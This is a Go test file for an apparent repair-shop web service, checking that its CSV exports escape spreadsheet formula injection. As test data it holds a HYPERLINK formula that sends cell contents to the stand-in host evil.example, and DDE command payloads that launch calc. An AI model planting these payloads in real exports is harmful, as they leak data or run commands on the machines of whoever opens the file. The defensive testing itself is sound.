package web

import (
	"encoding/csv"
	"strings"
	"testing"

	"bayboard/internal/shop"
)

// Text that a spreadsheet would run as a formula (OWASP's CSV injection
// list, with the full-width forms) leaves every spreadsheet export as text:
// a single quote before it. Numbers stay numbers.
func TestSpreadsheetExportsRunNoFormula(t *testing.T) {
	ts := newTestShop(t)
	mgr := ts.tokens[shop.RoleManager]
	hostile := map[string]string{
		"customer": `=HYPERLINK("http://evil.example/?"&A1,"点此")`,
		"model":    "+cmd|' /C calc'!A0",
		"advisor":  "@SUM(1+1)*cmd|' /C calc'!A0",
	}
	for _, cmd := range []string{
		`{"type":"put_customer","customer":{"id":"cu-1","name":` + quote(hostile["customer"]) + `,"phone":"13812345678"}}`,
		`{"type":"put_vehicle","vehicle":{"id":"ve-1","customer_id":"cu-1","plate":"京A12345","model":` + quote(hostile["model"]) + `}}`,
		`{"type":"put_user","user":{"id":"` + ts.users[shop.RoleAdvisor] + `","login":"advisor","name":` + quote(hostile["advisor"]) + `,"roles":["advisor"],"active":true}}`,
	} {
		if r := ts.call(t, nil, "POST", "/api/v1/commands", mgr, cmd); r.status != 200 {
			t.Fatalf("%s: %d %s", cmd, r.status, r.body)
		}
	}
	// The job's advisor is the one the seed's system actor opened it with;
	// open one more as the advisor so that column is theirs.
	adv := ts.tokens[shop.RoleAdvisor]
	if r := ts.call(t, nil, "POST", "/api/v1/commands", adv, `{"type":"cancel","job_id":"20261123-0001","reason":"改期"}`); r.status != 200 {
		t.Fatalf("cancel: %d %s", r.status, r.body)
	}
	if r := ts.call(t, nil, "POST", "/api/v1/commands", adv, `{"type":"open_job","customer_id":"cu-1","vehicle_id":"ve-1","requests":"保养","promised_at":"2026-11-23T15:00:00Z","labour":[{"name":"保养","sold_hours":1.5,"price":20000}]}`); r.status != 200 {
		t.Fatalf("open_job: %d %s", r.status, r.body)
	}

	exports := 0
	for _, route := range ts.srv.Routes() {
		method, path, _ := strings.Cut(route, " ")
		if method != "GET" || !strings.HasSuffix(path, ".csv") {
			continue
		}
		exports++
		r := ts.call(t, nil, "GET", path+"?from=2026-11-23&to=2026-11-23", mgr, nil)
		if r.status != 200 {
			t.Fatalf("%s: %d %s", path, r.status, r.body)
		}
		rows, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(string(r.body), "\ufeff"))).ReadAll()
		if err != nil || len(rows) < 3 {
			t.Fatalf("%s: %v, %d rows", path, err, len(rows))
		}
		found := map[string]bool{}
		for _, row := range rows {
			for _, c := range row {
				if c != "" && strings.ContainsRune("=+-@\t\r＝＋－＠", []rune(c)[0]) {
					t.Errorf("%s: cell %q would run as a formula", path, c)
				}
				for what, v := range hostile {
					if c == "'"+v {
						found[what] = true
					}
				}
			}
		}
		if len(found) != len(hostile) {
			t.Errorf("%s: the hostile text kept as text for %v only:\n%s", path, found, r.body)
		}
		// Numbers are written as numbers, not as quoted text.
		head := rows[0]
		for _, row := range rows[1:] {
			for i, name := range head {
				if (name == "sold_hours" || name == "estimated" || name == "reworks") && strings.HasPrefix(row[i], "'") {
					t.Errorf("%s: %s is %q, want a number", path, name, row[i])
				}
			}
		}
	}
	if exports == 0 {
		t.Fatal("no spreadsheet export found among the routes")
	}
}

func TestTextCell(t *testing.T) {
	for in, want := range map[string]string{
		"=1+1": "'=1+1", "+86 138": "'+86 138", "-2": "'-2", "@A1": "'@A1", "\tx": "'\tx", "\rx": "'\rx",
		"＝１": "'＝１", "＋x": "'＋x", "－x": "'－x", "＠x": "'＠x",
		"张先生": "张先生", "": "", "a=b": "a=b", "京A·12345": "京A·12345",
	} {
		if got := textCell(in).value; got != want {
			t.Errorf("textCell(%q) = %q, want %q", in, got, want)
		}
	}
}

func quote(s string) string {
	var b strings.Builder
	b.WriteByte('"')
	for _, r := range s {
		switch r {
		case '"', '\\':
			b.WriteByte('\\')
		}
		b.WriteRune(r)
	}
	b.WriteByte('"')
	return b.String()
}
